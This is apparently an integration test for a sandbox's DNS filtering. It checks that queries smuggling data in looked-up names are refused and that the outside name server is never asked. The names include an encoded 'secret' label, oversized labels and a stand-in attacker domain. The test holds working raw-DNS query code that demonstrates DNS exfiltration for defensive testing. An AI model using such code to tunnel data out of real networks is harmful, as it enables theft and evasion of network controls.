#!/usr/bin/python3 -B
# SPDX-License-Identifier: Apache-2.0
# TIMEOUT: 180
# ATTACK 66: send data out in names that are looked up: below an allowed name, below others, long, many, as other kinds of records
# MUST: each is answered here, and refused; the name server outside is asked for nothing
# CONTROL: net-names
"""The name server inside knows what the rules say, and asks nobody."""
import os
import sys

sys.path.insert(0, f"{os.environ['SRC']}/tests/integration")
from nettest import Attack, Names


SCRIPT = """
import socket, struct, sys
def ask(name, kind, tcp):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + b'\\0'
    q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + struct.pack('>HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect(('198.18.0.1', 53))
    s.sendall(struct.pack('>H', len(q)) + q if tcp else q)
    a = s.recv(4096)
    a = a[2:] if tcp else a
    return a[3] & 15
for name in ('api.example.org', 'c2VjcmV0.api.example.org', 'x' * 60 + '.' + 'y' * 60 + '.example.net', 'secret.attacker.example'):
    for kind in (1, 28, 16, 65, 255):
        for tcp in (False, True):
            try: print(name, kind, tcp, ask(name, kind, tcp))
            except OSError as error: print(name, kind, tcp, error)
"""
attack = Attack()
names = Names({})
said = attack.run(["--nameserver", names.address, "--allow", "api.example.org"], SCRIPT)
works = False
for line in said.splitlines():
    name, kind, tcp, code = line.split(None, 3)
    if name == "api.example.org":
        works = works or code == "0"
    else:
        attack.must(code != "0", f"{name[:20]} of kind {kind} was answered")
attack.must(not names.asked, f"{len(names.asked)} questions got out")
attack.end(works, "not even the allowed name was answered")
